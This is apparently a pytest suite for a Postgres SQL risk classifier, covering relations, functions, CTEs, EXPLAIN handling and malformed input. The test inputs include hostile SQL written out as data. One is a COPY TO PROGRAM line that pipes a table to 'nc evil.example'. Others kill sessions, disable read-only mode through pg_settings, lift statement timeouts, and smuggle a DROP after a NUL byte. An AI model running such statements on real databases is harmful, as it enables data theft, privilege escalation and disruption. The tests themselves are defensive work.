"""Classification beyond the class: relations, functions, statement texts, reasons, bad input."""

from __future__ import annotations

import random

import pytest

from gatehouse.classify import classify
from gatehouse.classify.functions import (
    SIDE_EFFECT_FREE,
    classify_field_call,
    classify_function,
    is_known_to_act,
)
from gatehouse.classify.postgres import MAX_CTES, classify_sql
from gatehouse.exceptions import ClassificationError
from gatehouse.models import StatementClass

READ = StatementClass.READ
WRITE = StatementClass.WRITE
UNKNOWN = StatementClass.UNKNOWN


def only(sql: str):
    result = classify_sql(sql)
    assert result.parse_error is None, result.parse_error
    assert len(result.statements) == 1
    return result.statements[0]


# -- dispatch --------------------------------------------------------------------------------------


def test_classify_dispatches_postgres_by_kind() -> None:
    result = classify("postgres", "delete from t")

    assert result.kind == "postgres"
    assert result.cls is WRITE


def test_an_unknown_target_kind_is_refused_not_guessed() -> None:
    with pytest.raises(ClassificationError) as caught:
        classify("mysql", "select 1")

    assert "mysql" in caught.value.message
    assert caught.value.status == 400


# -- relations -------------------------------------------------------------------------------------


def test_relations_are_schema_qualified_where_written_and_folded_to_lower_case() -> None:
    stmt = only("SELECT * FROM Public.Customers c JOIN orders o ON o.cid = c.id")

    assert stmt.relations == ("public.customers", "orders")


def test_quoted_and_unicode_escaped_identifiers_keep_what_the_parser_resolves() -> None:
    stmt = only('select * from "Sales"."Q1" natural join U&"d\\0061ta"')

    assert stmt.relations == ("Sales.Q1", "data")


def test_relations_inside_subqueries_ctes_and_lateral_joins_are_found() -> None:
    stmt = only(
        "with recent as (select * from orders) "
        "select * from recent r, lateral (select * from items i where i.order_id = r.id) x "
        "where exists (select 1 from refunds)"
    )

    assert set(stmt.relations) == {"orders", "items", "refunds"}


def test_a_cte_name_is_not_a_relation_but_a_qualified_table_of_that_name_is() -> None:
    stmt = only("with customers as (select 1) select * from customers, public.customers")

    assert stmt.relations == ("public.customers",)


def test_a_non_recursive_cte_reading_its_own_name_reads_the_real_table() -> None:
    # Postgres: a non-recursive CTE's body cannot see itself, so the inner name is the table.
    stmt = only("WITH customers AS (SELECT * FROM customers) SELECT * FROM customers")

    assert stmt.relations == ("customers",)


def test_a_recursive_cte_sees_itself_and_names_no_table() -> None:
    stmt = only(
        "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT * FROM r"
    )

    assert stmt.relations == ()


def test_a_cte_sees_earlier_ctes_but_not_later_ones() -> None:
    # `a` is defined before `b` is: inside `a`, `b` is still the table `b`.
    stmt = only("WITH a AS (SELECT * FROM b), b AS (SELECT * FROM a) SELECT * FROM a, b")

    assert stmt.relations == ("b",)


def test_a_cte_in_scope_of_a_nested_query_is_not_a_relation() -> None:
    stmt = only("with x as (select * from t) select * from u where id in (select id from x)")

    assert set(stmt.relations) == {"t", "u"}


@pytest.mark.parametrize(
    "sql",
    [
        "WITH t AS (SELECT 1) DELETE FROM t",
        "WITH t AS (SELECT 1 AS a) UPDATE t SET a = 2",
        "with t as (select 1 as a) insert into t select a from t",
        "WITH t AS (SELECT 1 AS id) MERGE INTO t USING t AS s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "with t as (select 1), d as (delete from t returning 1) select * from d",
    ],
)
def test_the_target_of_a_write_is_the_real_table_even_when_a_cte_shares_its_name(sql: str) -> None:
    (stmt,) = classify_sql(sql).statements

    assert "t" in stmt.relations
    assert stmt.cls is WRITE


def test_select_into_creates_the_real_table_even_when_a_cte_shares_its_name() -> None:
    stmt = only("with backup as (select 1) select * into backup from backup")

    assert stmt.cls is StatementClass.DDL
    assert stmt.relations == ("backup",)


def test_write_targets_and_dropped_tables_are_relations() -> None:
    assert only("insert into audit.log select * from staging").relations == ("audit.log", "staging")
    assert only("DROP TABLE a.b, C").relations == ("a.b", "c")
    assert only("truncate t1, t2").relations == ("t1", "t2")


def test_select_into_names_the_new_table() -> None:
    stmt = only("select * into backup from customers")

    assert stmt.cls is StatementClass.DDL
    assert set(stmt.relations) == {"backup", "customers"}


# -- functions -------------------------------------------------------------------------------------


def test_every_function_called_is_listed_as_written() -> None:
    stmt = only("select lower(name), pg_catalog.upper(name), count(*) from t order by length(name)")

    assert set(stmt.functions) == {"lower", "pg_catalog.upper", "count", "length"}
    assert stmt.cls is READ


@pytest.mark.parametrize(
    ("sql", "cls"),
    [
        ("select U&\"nextv\\0061l\"('s')", WRITE),  # Unicode escapes resolve to nextval
        ("select \"NEXTVAL\"('s')", UNKNOWN),  # a quoted upper-case name is another function
        ("select set_config('role'::text, 'admin', false)", StatementClass.PRIVILEGE),
        ("select set_config('ROLE', 'admin', false)", StatementClass.PRIVILEGE),
        ("select pg_catalog.set_config('work_mem', '8MB', false)", StatementClass.SESSION),
        ("select pg_catalog.set_config('search_path', 'x', false)", StatementClass.PRIVILEGE),
        ("select count(*) filter (where nextval('s') > 0) from t", WRITE),
        ("select sum(x) over (order by risky(x)) from t", UNKNOWN),
        ("select * from rows from (generate_series(1, 3), nextval('s'))", WRITE),
        ("select array(select nextval('s'))", WRITE),
        ("values (1), (nextval('s'))", WRITE),
        ("select * from t group by risky(x)", UNKNOWN),
        ("select * from t having max(x) > risky()", UNKNOWN),
        ("select * from t where x in (select pg_terminate_backend(1))", StatementClass.ADMIN),
        ("select 1 union select risky()", UNKNOWN),
        ("update t set a = risky()", UNKNOWN),
        ("insert into t values (1) returning risky(id)", UNKNOWN),
    ],
)
def test_functions_anywhere_in_the_tree_set_the_class(sql: str, cls: StatementClass) -> None:
    assert only(sql).cls is cls


def test_a_function_reason_names_the_function() -> None:
    stmt = only("select my_report(1)")

    assert stmt.cls is UNKNOWN
    assert stmt.reason == "function my_report is not known to be side-effect free"


@pytest.mark.parametrize(
    ("parts", "cls"),
    [
        (("lower",), READ),
        (("pg_catalog", "lower"), READ),
        (("public", "lower"), UNKNOWN),
        (("nextval",), WRITE),
        (("pg_catalog", "nextval"), WRITE),
        (("public", "nextval"), UNKNOWN),
        (("pg_catalog", "pg_terminate_backend"), StatementClass.ADMIN),
        (("lo_unlink",), StatementClass.ADMIN),
        (("dblink_exec",), StatementClass.ADMIN),
        (("pg_advisory_unlock_all",), WRITE),
        (("query_to_xml",), UNKNOWN),
        (("ts_rewrite",), UNKNOWN),
        (("pg_sleep_for",), UNKNOWN),
        (("pg_export_snapshot",), StatementClass.SESSION),
        (("brin_summarize_range",), StatementClass.ADMIN),
        (("pg_read_file_old",), StatementClass.ADMIN),
        (("binary_upgrade_set_next_pg_type_oid",), StatementClass.ADMIN),
        (("my_func",), UNKNOWN),
        (("a", "b", "c"), UNKNOWN),
    ],
)
def test_function_classes_by_name(parts: tuple[str, ...], cls: StatementClass) -> None:
    assert classify_function(parts)[0] is cls


def test_the_allowlist_holds_no_function_known_to_act() -> None:
    for name in ("nextval", "setval", "set_config", "pg_sleep", "query_to_xml", "dblink", "lo_import"):
        assert name not in SIDE_EFFECT_FREE


# -- attribute notation ----------------------------------------------------------------------------


def test_attribute_notation_calling_a_known_function_takes_its_class_and_says_how() -> None:
    stmt = only("SELECT pid, (pid).pg_terminate_backend FROM pg_stat_activity WHERE usename = current_user")

    assert stmt.cls is StatementClass.ADMIN
    assert stmt.reason == "pg_terminate_backend called with attribute notation ends another session"
    assert stmt.functions == ("pg_terminate_backend",)
    assert stmt.relations == ("pg_stat_activity",)


@pytest.mark.parametrize(
    ("sql", "name", "cls"),
    [
        (
            "select count((0::oid).lo_create) from generate_series(1, 20000)",
            "lo_create",
            StatementClass.ADMIN,
        ),
        ("select m.oid.lo_unlink from pg_largeobject_metadata m", "lo_unlink", StatementClass.ADMIN),
        ("select (424242::bigint).pg_advisory_lock", "pg_advisory_lock", WRITE),
        ("select (x).ts_stat from t", "ts_stat", UNKNOWN),
        ("select ('s'::regclass).nextval", "nextval", WRITE),
        ('select (pid)."pg_cancel_backend" from pg_stat_activity', "pg_cancel_backend", StatementClass.ADMIN),
        ("select (a[1]).b.lo_unlink from t", "lo_unlink", StatementClass.ADMIN),
    ],
)
def test_attribute_notation_forms_are_calls(sql: str, name: str, cls: StatementClass) -> None:
    stmt = only(sql)

    assert stmt.cls is cls
    assert name in stmt.functions
    assert "attribute notation" in stmt.reason


def test_field_names_not_known_to_act_are_left_as_columns() -> None:
    stmt = only("select c.name, (c).email, s.t.col, t.my_func, (name).lower from customers c")

    assert stmt.cls is READ
    assert stmt.functions == ()


def test_the_first_name_of_a_column_reference_is_never_a_call() -> None:
    # A bare `lo_unlink` is a column (or an error), never lo_unlink(...).
    assert only("select lo_unlink from t").cls is READ


def test_classify_field_call_gives_the_class_of_the_call_with_an_attribute_notation_reason() -> None:
    assert classify_field_call("pg_terminate_backend") == (
        StatementClass.ADMIN,
        "pg_terminate_backend called with attribute notation ends another session",
    )
    assert classify_field_call("lo_unlink") == (
        StatementClass.ADMIN,
        "lo_unlink called with attribute notation works on large objects (server-side files and blobs)",
    )
    assert classify_field_call("my_func") == (
        UNKNOWN,
        "my_func called with attribute notation is not known to be side-effect free",
    )
    assert classify_field_call("lower") == (READ, "")


@pytest.mark.parametrize(
    ("name", "acts"),
    [
        ("pg_terminate_backend", True),
        ("lo_create", True),
        ("pg_try_advisory_xact_lock_shared", True),
        ("set_config", True),
        ("ts_stat", True),
        ("pg_sleep", True),
        ("lower", False),
        ("email", False),
        ("my_func", False),
    ],
)
def test_is_known_to_act(name: str, acts: bool) -> None:
    assert is_known_to_act(name) is acts


# -- hidden writes ---------------------------------------------------------------------------------


def test_a_data_modifying_cte_says_so() -> None:
    stmt = only("with gone as (delete from customers returning id) select count(*) from gone")

    assert stmt.cls is WRITE
    assert stmt.reason == "data-modifying CTE (DELETE in WITH gone)"


def test_a_locking_read_inside_a_cte_is_a_write() -> None:
    stmt = only("with x as (select * from t for update) select * from x")

    assert stmt.cls is WRITE
    assert "FOR UPDATE" in stmt.reason


def test_copy_to_program_is_admin_and_says_why() -> None:
    stmt = only("COPY customers TO PROGRAM 'nc evil.example 80'")

    assert stmt.cls is StatementClass.ADMIN
    assert "COPY TO PROGRAM" in stmt.reason


def test_explain_without_analyze_reads_and_explain_analyze_takes_the_inner_class() -> None:
    planned = only("explain delete from customers")
    executed = only("explain analyze delete from customers")

    assert planned.cls is READ
    assert planned.relations == ("customers",)
    assert executed.cls is WRITE
    assert executed.reason.startswith("EXPLAIN ANALYZE runs the statement")


@pytest.mark.parametrize(
    ("options", "cls"),
    [
        ("ANALYZE false, ANALYZE true", WRITE),
        ("ANALYZE true, ANALYZE false", READ),
        ("ANALYZE, ANALYZE off", READ),
        ("ANALYZE off, ANALYZE", WRITE),
        ("ANALYZE 0, VERBOSE, ANALYZE 1", WRITE),
        ("ANALYZE 'on', ANALYZE 'OFF'", READ),
        ("ANALYZE maybe", WRITE),  # Postgres refuses the value; counting it as true fails closed
        ("BUFFERS, SUMMARY, SETTINGS", READ),
    ],
)
def test_explain_takes_the_last_analyze_option_like_postgres(options: str, cls: StatementClass) -> None:
    assert only(f"EXPLAIN ({options}) DELETE FROM t").cls is cls


def test_explain_without_analyze_ignores_locks_and_ctes_it_does_not_run() -> None:
    assert only("explain with d as (delete from t returning *) select * from d").cls is READ
    assert only("explain select * from t for update").cls is READ
    assert only("explain analyze select * from t for update").cls is WRITE


# -- statement texts -------------------------------------------------------------------------------


def test_each_statement_carries_its_own_text_without_separators() -> None:
    result = classify_sql("select 1;\n\n  DELETE FROM t WHERE id = 2 ;  /* done */ commit;")

    assert [s.text for s in result.statements] == ["select 1", "DELETE FROM t WHERE id = 2", "commit"]
    assert [s.cls for s in result.statements] == [READ, WRITE, StatementClass.TRANSACTION]
    assert result.cls is WRITE


def test_statement_texts_are_sliced_correctly_after_multibyte_characters() -> None:
    # The parser counts UTF-8 bytes: slicing by characters would cut the second statement.
    result = classify_sql("select 'héllo wörld ✓'; update t set name = 'ü' where id = 1")

    assert [s.text for s in result.statements] == [
        "select 'héllo wörld ✓'",
        "update t set name = 'ü' where id = 1",
    ]


def test_semicolons_inside_strings_and_dollar_quotes_do_not_split() -> None:
    result = classify_sql("select 'a;b', $$c;d$$, $x$e;f$x$; select 2")

    assert [s.text for s in result.statements] == ["select 'a;b', $$c;d$$, $x$e;f$x$", "select 2"]


def test_multi_statement_class_is_the_riskiest_statement() -> None:
    result = classify_sql("begin; select 1; grant all on t to public; vacuum; commit")

    assert [s.cls.value for s in result.statements] == [
        "transaction",
        "read",
        "privilege",
        "admin",
        "transaction",
    ]
    assert result.cls is StatementClass.PRIVILEGE


# -- bad input never raises ------------------------------------------------------------------------


def test_unparseable_text_is_one_unknown_statement_with_the_parsers_message() -> None:
    result = classify_sql("selec * from customers")

    assert result.parse_error == 'syntax error at or near "selec", at index 0'
    assert len(result.statements) == 1
    assert result.statements[0].cls is UNKNOWN
    assert result.statements[0].text == "selec * from customers"


def test_one_bad_statement_makes_the_whole_text_unparseable() -> None:
    result = classify_sql("select 1; delete customers")

    assert result.parse_error is not None
    assert [s.cls for s in result.statements] == [UNKNOWN]


@pytest.mark.parametrize("text", ["", "   ", "-- just a comment", "/* a */", ";", "\n\t\n"])
def test_empty_text_is_an_empty_statement(text: str) -> None:
    result = classify_sql(text)

    assert result.parse_error == "empty statement"
    assert result.cls is UNKNOWN


def test_a_nul_character_is_refused_because_the_parser_would_stop_reading_at_it() -> None:
    result = classify_sql("select 1\x00; drop table customers")

    assert result.parse_error is not None
    assert "NUL" in result.parse_error
    assert result.cls is UNKNOWN


def test_deep_nesting_neither_crashes_nor_reads() -> None:
    parens = classify_sql("select " + "(" * 2000 + "nextval('s')" + ")" * 2000)
    assert parens.cls is WRITE

    too_deep = classify_sql("select " + "1+" * 50_000 + "1")
    assert too_deep.cls is UNKNOWN
    assert too_deep.parse_error


def test_random_garbage_never_raises_and_unparseable_is_unknown() -> None:
    rng = random.Random(20261101)
    alphabet = "selctinraupdwhfom ;'\"$()*,.=-/\\\n\tUé✓0123456789"
    for _ in range(500):
        text = "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 60)))
        result = classify_sql(text)
        if result.parse_error is not None:
            assert result.cls is UNKNOWN
        assert all(s.reason for s in result.statements)


@pytest.mark.parametrize(
    ("text", "command"),
    [
        ("select 1", "select"),
        ("values (1)", "select"),
        ("COPY t TO STDOUT", "copy"),
        ("show work_mem", "variableshow"),
    ],
)
def test_each_statement_names_its_own_kind(text, command):
    assert classify("postgres", text).statements[0].command == command


@pytest.mark.parametrize(
    "sql",
    [
        "UPDATE pg_settings SET setting = 'off' WHERE name = 'default_transaction_read_only'",
        "UPDATE pg_catalog.pg_settings SET setting = 'evil, public' WHERE name = 'search_path'",
        "update PG_SETTINGS set setting = 'x' where name = current_setting('x')",
        "INSERT INTO pg_settings (name, setting) VALUES ('role', 'postgres')",
        "WITH s AS (UPDATE pg_settings SET setting = 'on' WHERE name = 'x' RETURNING name) SELECT * FROM s",
        "MERGE INTO pg_settings s USING (SELECT 1) v ON true WHEN MATCHED THEN UPDATE SET setting = 'off'",
    ],
)
def test_writing_pg_settings_is_set_config_in_disguise(sql: str) -> None:
    # The view's rules call set_config for every row written, on whatever setting the WHERE names.
    result = classify_sql(sql)
    assert result.cls is StatementClass.PRIVILEGE
    assert any("pg_settings" in s.reason for s in result.statements)


def test_reading_pg_settings_or_writing_a_user_table_of_that_name_is_not():
    assert only("SELECT name, setting FROM pg_settings").cls is READ
    assert only("UPDATE app.pg_settings SET setting = 'x'").cls is WRITE


@pytest.mark.parametrize(
    "sql",
    [
        "SET statement_timeout = 0",
        "SET LOCAL statement_timeout TO DEFAULT",
        "SET SESSION Statement_Timeout = '1h'",
        "RESET statement_timeout",
        "RESET ALL",
        "SET lock_timeout = 0",
        "SET idle_in_transaction_session_timeout = 0",
        "SELECT set_config('statement_timeout', '0', false)",
    ],
)
def test_lifting_the_time_limit_gatehouse_sets_is_privilege(sql: str) -> None:
    # The executor's SET LOCAL statement_timeout bounds every run; a plain SET after it wins.
    assert classify_sql(sql).cls is StatementClass.PRIVILEGE


def test_other_session_settings_stay_session() -> None:
    assert only("SET work_mem = '64MB'").cls is StatementClass.SESSION


def _chained_ctes(n: int) -> str:
    chain = ", ".join(f"c{i} AS (SELECT * FROM c{i - 1})" for i in range(1, n))
    return f"WITH c0 AS (SELECT 1), {chain} SELECT * FROM c{n - 1}"


def test_a_text_with_too_many_ctes_is_refused_before_it_runs() -> None:
    # Planning them outlasts any statement timeout, and the backend ignores cancel meanwhile.
    result = classify_sql(_chained_ctes(MAX_CTES + 1))
    assert result.parse_error is not None and f"at most {MAX_CTES}" in result.parse_error
    assert result.cls is UNKNOWN
    # nested CTEs count too
    nested = "SELECT * FROM (" + _chained_ctes(MAX_CTES) + ") a, (WITH x AS (SELECT 1) SELECT * FROM x) b"
    assert classify_sql(nested).parse_error is not None


def test_a_text_with_many_ctes_within_the_bound_is_classified() -> None:
    result = classify_sql(_chained_ctes(MAX_CTES))
    assert result.parse_error is None and result.cls is READ
